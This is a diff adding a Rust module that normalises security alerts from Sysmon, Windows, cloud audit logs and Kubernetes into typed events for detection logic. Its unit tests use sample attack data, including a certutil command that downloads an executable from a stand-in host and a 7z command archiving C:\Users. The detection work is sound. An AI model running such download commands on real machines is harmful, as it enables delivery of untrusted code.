@@ -1,0 +1,543 @@
+//! What an alert's event is: its kind and its telling values (image and command line,
+//! parent, script, Windows event ID and channel, cloud event source and operation,
+//! Kubernetes verb and resource, registry and file paths), read from whichever field names
+//! the sender used. Every value keeps the JSON path it came from, so evidence can cite it.
+
+use std::collections::HashMap;
+
+use serde::Serialize;
+
+use crate::alert::{Alert, AlertFormat};
+
+/// The kinds of event the knowledge distinguishes.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum EventKind {
+    ProcessCreation,
+    ScriptBlock,
+    Registry,
+    File,
+    Network,
+    Dns,
+    ImageLoad,
+    ProcessAccess,
+    Service,
+    ScheduledTask,
+    Auth,
+    CloudApi,
+    K8sAudit,
+    WindowsEvent,
+    Other,
+}
+
+impl EventKind {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            EventKind::ProcessCreation => "process_creation",
+            EventKind::ScriptBlock => "script_block",
+            EventKind::Registry => "registry",
+            EventKind::File => "file",
+            EventKind::Network => "network",
+            EventKind::Dns => "dns",
+            EventKind::ImageLoad => "image_load",
+            EventKind::ProcessAccess => "process_access",
+            EventKind::Service => "service",
+            EventKind::ScheduledTask => "scheduled_task",
+            EventKind::Auth => "auth",
+            EventKind::CloudApi => "cloud_api",
+            EventKind::K8sAudit => "k8s_audit",
+            EventKind::WindowsEvent => "windows_event",
+            EventKind::Other => "other",
+        }
+    }
+}
+
+/// One value read from an alert: where it sits (a path evidence refs can use, relative to
+/// the alert) and its text as sent.
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct Observed {
+    pub path: String,
+    pub text: String,
+}
+
+/// The attributes indicators match on. Names are those of the knowledge files' `when` keys.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Attr {
+    Image,
+    ParentImage,
+    CommandLine,
+    ParentCommandLine,
+    Script,
+    EventId,
+    Channel,
+    EventSource,
+    Operation,
+    Verb,
+    Resource,
+    Registry,
+    FilePath,
+    TargetImage,
+    Text,
+}
+
+impl Attr {
+    pub fn from_key(key: &str) -> Option<Attr> {
+        Some(match key {
+            "image" => Attr::Image,
+            "parent_image" => Attr::ParentImage,
+            "command_line" => Attr::CommandLine,
+            "parent_command_line" => Attr::ParentCommandLine,
+            "script" => Attr::Script,
+            "event_id" => Attr::EventId,
+            "channel" => Attr::Channel,
+            "event_source" => Attr::EventSource,
+            "operation" => Attr::Operation,
+            "verb" => Attr::Verb,
+            "resource" => Attr::Resource,
+            "registry" => Attr::Registry,
+            "file_path" => Attr::FilePath,
+            "target_image" => Attr::TargetImage,
+            "text" => Attr::Text,
+            _ => return None,
+        })
+    }
+
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Attr::Image => "image",
+            Attr::ParentImage => "parent_image",
+            Attr::CommandLine => "command_line",
+            Attr::ParentCommandLine => "parent_command_line",
+            Attr::Script => "script",
+            Attr::EventId => "event_id",
+            Attr::Channel => "channel",
+            Attr::EventSource => "event_source",
+            Attr::Operation => "operation",
+            Attr::Verb => "verb",
+            Attr::Resource => "resource",
+            Attr::Registry => "registry",
+            Attr::FilePath => "file_path",
+            Attr::TargetImage => "target_image",
+            Attr::Text => "text",
+        }
+    }
+
+    /// Attributes compared whole (case-insensitively) rather than searched with a regex.
+    pub fn is_exact(self) -> bool {
+        matches!(
+            self,
+            Attr::Image
+                | Attr::ParentImage
+                | Attr::TargetImage
+                | Attr::EventId
+                | Attr::Channel
+                | Attr::EventSource
+                | Attr::Operation
+                | Attr::Verb
+                | Attr::Resource
+        )
+    }
+}
+
+/// Field names (last path segments, lower-cased, or whole lower-cased paths) that carry
+/// each attribute, most specific first. Senders name the same thing many ways: Sysmon,
+/// Windows Security, ECS, OCSF, Splunk CIM, CloudTrail, GCP audit, Azure, Okta, GitHub,
+/// Kubernetes audit, Falco.
+const FIELD_NAMES: [(Attr, &[&str]); 14] = [
+    (
+        Attr::CommandLine,
+        &[
+            "commandline",
+            "command_line",
+            "processcommandline",
+            "process_command_line",
+            "process.command_line",
+            "process.cmd_line",
+            "cmd_line",
+            "cmdline",
+            "proc.cmdline",
+            "processes.process",
+            "process",
+            "cmd",
+        ],
+    ),
+    (
+        Attr::ParentCommandLine,
+        &["parentcommandline", "parent_command_line", "parent_process_command_line", "process.parent.command_line", "initiatingprocesscommandline"],
+    ),
+    (
+        Attr::Image,
+        &[
+            "image",
+            "newprocessname",
+            "process_path",
+            "processpath",
+            "process.executable",
+            "process.exe",
+            "exe",
+            "process_name",
+            "processname",
+            "process.name",
+            "processes.process_name",
+            "proc.name",
+            "originalfilename",
+            "filename",
+        ],
+    ),
+    (
+        Attr::ParentImage,
+        &[
+            "parentimage",
+            "parentprocessname",
+            "parent_process_name",
+            "parent_process_path",
+            "parent_process",
+            "process.parent.executable",
+            "process.parent.name",
+            "processes.parent_process_name",
+            "initiatingprocessfilename",
+            "proc.pname",
+        ],
+    ),
+    (Attr::TargetImage, &["targetimage", "target_process_name", "target_image"]),
+    (Attr::Script, &["scriptblocktext", "script_block_text", "powershell.file.script_block_text", "scriptblock", "script"]),
+    (Attr::EventId, &["eventid", "event_id", "eventcode", "event_code", "winlog.event_id", "system.eventid", "event.code"]),
+    (
+        Attr::Channel,
+        &["channel", "winlog.channel", "system.channel", "provider_name", "providername", "provider", "sourcename", "source_name", "logname", "log_name"],
+    ),
+    (Attr::EventSource, &["eventsource", "protopayload.servicename", "servicename", "resourceprovidername", "resource_provider", "event_source"]),
+    (
+        Attr::Operation,
+        &[
+            "eventname",
+            "protopayload.methodname",
+            "methodname",
+            "operationname",
+            "operationname.value",
+            "activitydisplayname",
+            "activity_display_name",
+            "eventtype",
+            "event_type",
+            "action",
+            "operation",
+            "activity",
+        ],
+    ),
+    (Attr::Verb, &["verb"]),
+    (Attr::Resource, &["objectref.resource", "resource"]),
+    (Attr::Registry, &["targetobject", "registry_path", "registry.path", "registry_key_name", "registry.key", "objectname"]),
+    (Attr::FilePath, &["targetfilename", "target_filename", "file_path", "file.path", "filepath", "file_name"]),
+];
+
+/// The normalised reading of one alert.
+#[derive(Debug, Clone, Serialize)]
+pub struct Event {
+    pub alert_id: String,
+    pub kind: EventKind,
+    /// Attribute values as sent, with their paths.
+    pub values: HashMap<Attr, Observed>,
+    /// The rule's name and its description, matched by `text` indicators. The name says
+    /// what fired; a description also says what might follow, so it counts for less.
+    pub rule_name: String,
+    pub rule_description: String,
+    /// The event says the attempt failed or was denied (a failed logon, an API call refused).
+    pub failed: Option<Observed>,
+    /// The event only read: a read-only cloud API call, a Kubernetes get/list/watch.
+    pub read_only: bool,
+}
+
+impl Event {
+    pub fn of(alert: &Alert) -> Event {
+        let prefix = if alert.format == AlertFormat::Native { "fields." } else { "" };
+        // Every scalar under `fields`, by lower-cased path and by lower-cased last segment.
+        let mut by_path: HashMap<String, Observed> = HashMap::new();
+        let mut by_leaf: HashMap<String, Observed> = HashMap::new();
+        crate::jsonpath::for_each_scalar(&alert.fields, "", &mut |path, text| {
+            if text.trim().is_empty() {
+                return;
+            }
+            let observed = Observed { path: format!("{prefix}{path}"), text: text.to_string() };
+            let lower = normalise_path(path);
+            let leaf = lower.rsplit('.').next().unwrap_or(&lower).to_string();
+            by_leaf.entry(leaf).or_insert_with(|| observed.clone());
+            by_path.entry(lower).or_insert(observed);
+        });
+        let mut values = HashMap::new();
+        for (attr, names) in FIELD_NAMES {
+            let found = names.iter().find_map(|n| if n.contains('.') { by_path.get(*n) } else { by_leaf.get(*n) });
+            if let Some(v) = found {
+                values.insert(attr, v.clone());
+            }
+        }
+        // `resource` and `action` are too generic alone: keep them for the audit records
+        // they name, drop them elsewhere.
+        let k8s = by_path.contains_key("objectref.resource") || by_leaf.contains_key("verb") && by_path.keys().any(|p| p.starts_with("objectref."));
+        if !k8s {
+            values.remove(&Attr::Resource);
+            values.remove(&Attr::Verb);
+        }
+        if let Some(sub) = by_path.get("objectref.subresource")
+            && let Some(res) = values.get_mut(&Attr::Resource)
+        {
+            res.text = format!("{}/{}", res.text, sub.text);
+        }
+        // A process's image is also the first word of its command line.
+        if !values.contains_key(&Attr::Image)
+            && let Some(cl) = values.get(&Attr::CommandLine)
+            && let Some(first) = first_word(&cl.text)
+        {
+            values.insert(Attr::Image, Observed { path: cl.path.clone(), text: first });
+        }
+        let kind = kind_of(&values, &alert.source);
+        let failed = failure(&by_path, &by_leaf, &values);
+        let read_only = by_leaf.get("readonly").is_some_and(|o| o.text.eq_ignore_ascii_case("true"))
+            || (kind == EventKind::K8sAudit
+                && values.get(&Attr::Verb).is_some_and(|v| matches!(v.text.to_ascii_lowercase().as_str(), "get" | "list" | "watch")));
+        Event {
+            alert_id: alert.id.clone(),
+            kind,
+            values,
+            rule_name: alert.rule.name.clone(),
+            rule_description: alert.rule.description.clone().unwrap_or_default(),
+            failed,
+            read_only,
+        }
+    }
+
+    pub fn get(&self, attr: Attr) -> Option<&Observed> {
+        self.values.get(&attr)
+    }
+
+    /// The basename of a process image, lower-cased, without `.exe`: what a binary is
+    /// called whatever path or casing the sender used.
+    pub fn image_name(&self, attr: Attr) -> Option<String> {
+        self.get(attr).map(|o| binary_name(&o.text))
+    }
+
+    /// Whether the event runs on Windows, Linux/macOS, a cloud or SaaS control plane, as
+    /// far as its own values tell.
+    pub fn platform(&self) -> Platform {
+        match self.kind {
+            EventKind::CloudApi | EventKind::K8sAudit => return Platform::Cloud,
+            EventKind::ScriptBlock | EventKind::Registry | EventKind::WindowsEvent | EventKind::ImageLoad | EventKind::ProcessAccess => {
+                return Platform::Windows;
+            }
+            _ => {}
+        }
+        let image = self.get(Attr::Image).map(|o| o.text.to_ascii_lowercase()).unwrap_or_default();
+        if image.ends_with(".exe") || image.contains('\\') || self.get(Attr::EventId).is_some() {
+            Platform::Windows
+        } else if image.starts_with('/') || !image.is_empty() {
+            Platform::Unix
+        } else {
+            Platform::Unknown
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Platform {
+    Windows,
+    Unix,
+    Cloud,
+    Unknown,
+}
+
+/// `a.b[0].c` and `a["b"].c` both become `a.b.c`, lower-cased, for matching field names.
+fn normalise_path(path: &str) -> String {
+    let mut out = String::with_capacity(path.len());
+    let mut in_index = false;
+    for c in path.chars() {
+        match c {
+            '[' => in_index = true,
+            ']' => {
+                in_index = false;
+            }
+            '"' | '\'' => {}
+            _ if in_index && c.is_ascii_digit() => {}
+            _ if in_index => {
+                if !out.is_empty() && !out.ends_with('.') {
+                    out.push('.');
+                }
+                in_index = false;
+                out.push(c.to_ascii_lowercase());
+            }
+            _ => out.push(c.to_ascii_lowercase()),
+        }
+    }
+    out
+}
+
+/// `C:\Windows\System32\certutil.exe` → `certutil`; `/usr/bin/curl` → `curl`.
+pub fn binary_name(path: &str) -> String {
+    let t = path.trim().trim_matches('"').trim_matches('\'');
+    let base = t.rsplit(['\\', '/']).next().unwrap_or(t).to_ascii_lowercase();
+    base.strip_suffix(".exe").map(str::to_string).unwrap_or(base)
+}
+
+/// The program a command line starts: its first word, quotes honoured.
+fn first_word(command_line: &str) -> Option<String> {
+    let t = command_line.trim_start();
+    let word = if let Some(rest) = t.strip_prefix('"') { rest.split('"').next()? } else { t.split_whitespace().next()? };
+    let word = word.trim();
+    (!word.is_empty()).then(|| word.to_string())
+}
+
+/// Where an event says it failed: CloudTrail `errorCode`, Okta `outcome.result`, Azure
+/// `resultType`, GCP `status.code`, Kubernetes `responseStatus.code`, a failed Windows logon,
+/// or a generic status/outcome field.
+fn failure(by_path: &HashMap<String, Observed>, by_leaf: &HashMap<String, Observed>, values: &HashMap<Attr, Observed>) -> Option<Observed> {
+    if let Some(e) = by_leaf.get("errorcode")
+        && !matches!(e.text.trim(), "" | "0" | "null" | "None" | "Success")
+    {
+        return Some(e.clone());
+    }
+    for path in ["protopayload.status.code", "status.code", "responsestatus.code"] {
+        if let Some(o) = by_path.get(path)
+            && let Ok(code) = o.text.trim().parse::<i64>()
+            && (path == "responsestatus.code" && code >= 400 || path != "responsestatus.code" && code != 0)
+        {
+            return Some(o.clone());
+        }
+    }
+    for key in ["outcome.result", "result", "resulttype", "status.value", "status", "outcome", "event.outcome", "result_status"] {
+        let o = if key.contains('.') { by_path.get(key) } else { by_leaf.get(key) };
+        if let Some(o) = o
+            && matches!(
+                o.text.trim().to_ascii_lowercase().as_str(),
+                "failure" | "failed" | "fail" | "deny" | "denied" | "blocked" | "rejected" | "unauthorized" | "forbidden"
+            )
+        {
+            return Some(o.clone());
+        }
+    }
+    let event_id = values.get(&Attr::EventId)?;
+    match event_id.text.trim() {
+        "4625" | "4771" => Some(event_id.clone()),
+        "4776" => by_leaf.get("status").filter(|s| !matches!(s.text.trim(), "0x0" | "0")).cloned(),
+        _ => None,
+    }
+}
+
+fn kind_of(values: &HashMap<Attr, Observed>, source: &str) -> EventKind {
+    let has = |a: Attr| values.contains_key(&a);
+    let source = source.to_ascii_lowercase();
+    let channel = values.get(&Attr::Channel).map(|o| o.text.to_ascii_lowercase()).unwrap_or_default();
+    let event_id: Option<u32> = values.get(&Attr::EventId).and_then(|o| o.text.trim().parse().ok());
+    if has(Attr::Verb) && has(Attr::Resource) {
+        return EventKind::K8sAudit;
+    }
+    if channel.contains("sysmon") || source.contains("sysmon") {
+        match event_id {
+            Some(1) => return EventKind::ProcessCreation,
+            Some(3) => return EventKind::Network,
+            Some(6 | 7) => return EventKind::ImageLoad,
+            Some(8 | 10) => return EventKind::ProcessAccess,
+            Some(11 | 15 | 23 | 26) => return EventKind::File,
+            Some(12..=14) => return EventKind::Registry,
+            Some(22) => return EventKind::Dns,
+            _ => {}
+        }
+    }
+    match event_id {
+        Some(4104 | 4103) if has(Attr::Script) || channel.contains("powershell") => return EventKind::ScriptBlock,
+        Some(4688) => return EventKind::ProcessCreation,
+        Some(4624 | 4625 | 4634 | 4647 | 4648 | 4768 | 4769 | 4771 | 4776) => return EventKind::Auth,
+        Some(4697 | 7045) => return EventKind::Service,
+        Some(4698..=4702) => return EventKind::ScheduledTask,
+        _ => {}
+    }
+    if has(Attr::EventSource) {
+        return EventKind::CloudApi;
+    }
+    if has(Attr::Operation)
+        && ["cloudtrail", "aws", "azure", "gcp", "google", "entra", "github", "okta", "o365", "m365", "workspace"].iter().any(|s| source.contains(s))
+    {
+        return if source.contains("okta")
+            || source.contains("entra") && values.get(&Attr::Operation).is_some_and(|o| o.text.to_ascii_lowercase().contains("sign"))
+        {
+            EventKind::Auth
+        } else {
+            EventKind::CloudApi
+        };
+    }
+    if has(Attr::Script) {
+        return EventKind::ScriptBlock;
+    }
+    if has(Attr::CommandLine) {
+        return EventKind::ProcessCreation;
+    }
+    if has(Attr::Registry) {
+        return EventKind::Registry;
+    }
+    if has(Attr::FilePath) {
+        return EventKind::File;
+    }
+    if event_id.is_some() {
+        return EventKind::WindowsEvent;
+    }
+    if has(Attr::Image) {
+        return EventKind::ProcessCreation;
+    }
+    EventKind::Other
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn alert(fields: serde_json::Value) -> Alert {
+        Alert::parse(0, &json!({"id": "a1", "source": "sysmon", "time": "2026-01-01T00:00:00Z", "rule": {"name": "Sysmon process creation"}, "fields": fields}))
+            .unwrap()
+    }
+
+    #[test]
+    fn reads_a_sysmon_process_creation() {
+        let e = Event::of(&alert(json!({
+            "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
+            "Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -urlcache -f http://x/a.exe a.exe",
+            "ParentImage": "C:\\Windows\\System32\\cmd.exe"
+        })));
+        assert_eq!(e.kind, EventKind::ProcessCreation);
+        assert_eq!(e.image_name(Attr::Image).as_deref(), Some("certutil"));
+        assert_eq!(e.image_name(Attr::ParentImage).as_deref(), Some("cmd"));
+        assert_eq!(e.get(Attr::CommandLine).unwrap().path, "fields.CommandLine");
+        assert_eq!(e.platform(), Platform::Windows);
+    }
+
+    #[test]
+    fn reads_cloudtrail_gcp_and_kubernetes_records() {
+        let ct = Event::of(&alert(json!({"eventSource": "iam.amazonaws.com", "eventName": "AttachUserPolicy", "eventType": "AwsApiCall"})));
+        assert_eq!(ct.kind, EventKind::CloudApi);
+        assert_eq!(ct.get(Attr::Operation).unwrap().text, "AttachUserPolicy");
+        let gcp =
+            Event::of(&alert(json!({"protoPayload": {"serviceName": "iam.googleapis.com", "methodName": "google.iam.admin.v1.CreateServiceAccountKey"}})));
+        assert_eq!(gcp.kind, EventKind::CloudApi);
+        assert_eq!(gcp.get(Attr::Operation).unwrap().path, "fields.protoPayload.methodName");
+        let k8s = Event::of(&alert(json!({"verb": "create", "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "prod"}})));
+        assert_eq!(k8s.kind, EventKind::K8sAudit);
+        assert_eq!(k8s.get(Attr::Resource).unwrap().text, "pods/exec");
+    }
+
+    #[test]
+    fn reads_failures_and_read_only_calls() {
+        let denied = Event::of(&alert(json!({"eventSource": "s3.amazonaws.com", "eventName": "GetObject", "errorCode": "AccessDenied", "readOnly": true})));
+        assert_eq!(denied.failed.as_ref().unwrap().path, "fields.errorCode");
+        assert!(denied.read_only);
+        let okta = Event::of(&alert(json!({"eventType": "user.session.start", "outcome": {"result": "FAILURE"}})));
+        assert!(okta.failed.is_some());
+        let ok = Event::of(&alert(json!({"eventSource": "iam.amazonaws.com", "eventName": "CreateAccessKey", "readOnly": false})));
+        assert!(ok.failed.is_none() && !ok.read_only);
+    }
+
+    #[test]
+    fn image_falls_back_to_the_command_lines_first_word() {
+        let e = Event::of(&alert(json!({"process": "\"C:\\Program Files\\7-Zip\\7z.exe\" a out.7z C:\\Users"})));
+        assert_eq!(e.image_name(Attr::Image).as_deref(), Some("7z"));
+        assert_eq!(binary_name("/usr/bin/curl"), "curl");
+    }
+}
